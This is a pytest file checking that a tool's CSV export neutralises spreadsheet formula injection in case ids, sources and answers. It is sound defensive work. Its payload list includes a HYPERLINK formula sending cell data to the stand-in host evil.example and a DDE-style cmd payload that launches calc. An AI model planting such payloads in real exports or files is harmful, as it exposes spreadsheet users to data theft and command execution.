"""Attack: CSV (formula) injection through `courtroom export --format csv`. A case id, source or answer that
starts like a spreadsheet formula (`=HYPERLINK(...)`, `@SUM(...)`, `+cmd|...`) must open as text in the
exported CSV, while Parquet and JSON Lines keep every value exactly."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from courtroom.log.export import FORMULA_STARTS, export_run, spreadsheet_safe
from tests.helpers.runs import pseudo_run

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\tTAB=1", "\r=1"]


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("formulas")
    rows = [{"id": formula, "source": formula, "question": "What colour is the sky?",
             "context": ["The sky is blue."], "answer": f"{formula} The sky is green.",
             "label": "FAIL" if i % 2 else "PASS"} for i, formula in enumerate(FORMULAS)]
    return pseudo_run(rows, root / "formulas.jsonl", root / "run")


def test_no_csv_cell_starts_a_formula(formula_run: Path, tmp_path: Path) -> None:
    path = export_run(formula_run, "csv", tmp_path / "run.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        records = list(csv.DictReader(handle))
    assert len(records) == len(FORMULAS)
    cells = [cell for record in records for cell in record.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert sorted(r["case_id"] for r in records) == sorted(f"'{formula}" for formula in FORMULAS)  # as text
    assert all(r["source"] == r["case_id"] for r in records)
    quotes = [c["quote"] for r in records for c in json.loads(r["charges"])]  # the JSON column parses as before
    assert any("green" in quote for quote in quotes)


def test_parquet_and_jsonl_keep_the_exact_values(formula_run: Path, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    jsonl = export_run(formula_run, "jsonl", tmp_path / "run.jsonl")
    parquet = export_run(formula_run, "parquet", tmp_path / "run.parquet")
    ids = sorted(json.loads(line)["case_id"] for line in jsonl.read_text().splitlines())
    assert ids == sorted(FORMULAS)
    assert sorted(pq.read_table(parquet).column("case_id").to_pylist()) == sorted(FORMULAS)


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert spreadsheet_safe(-0.5) == -0.5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("supported") == "supported" and spreadsheet_safe("a=b") == "a=b"
    assert spreadsheet_safe("=1") == "'=1"
